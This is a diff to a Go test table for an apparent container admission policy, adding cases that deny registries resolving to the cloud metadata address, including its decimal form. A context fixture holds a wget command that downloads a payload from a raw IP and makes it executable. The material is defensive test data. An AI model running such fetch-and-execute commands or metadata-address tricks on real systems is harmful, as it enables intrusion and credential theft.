@@ -183,6 +183,20 @@ func TestDecide(t *testing.T) {
 			wantRules: []string{"unresolvable-image/deny"},
 		},
 		{
+			name:        "registry resolves to a metadata address, failurePolicy allow",
+			spec:        Spec{Registries: base.Registries, FailurePolicy: FailAllow},
+			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Err: &ResolveError{Kind: ErrForbiddenAddress, Message: "refusing to dial 169.254.169.254"}}),
+			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
+			wantRules: []string{"unapproved-registry/deny"},
+		},
+		{
+			name:        "registry written as a metadata address in decimal",
+			spec:        Spec{Registries: Registries{Allow: []string{"**"}}, FailurePolicy: FailAllow},
+			facts:       pod(Container{Image: "2852039166:80/acme/shop:1"}),
+			wantOutcome: OutcomeDeny, wantMode: ModeEnforce,
+			wantRules: []string{"unapproved-registry/deny"},
+		},
+		{
 			name:        "download from raw IP",
 			spec:        base,
 			facts:       pod(Container{Image: "ghcr.io/acme/shop:1", Resolved: image(aged, "RUN /bin/sh -c wget -q http://203.0.113.9/payload -O /usr/bin/p && chmod +x /usr/bin/p # buildkit")}),
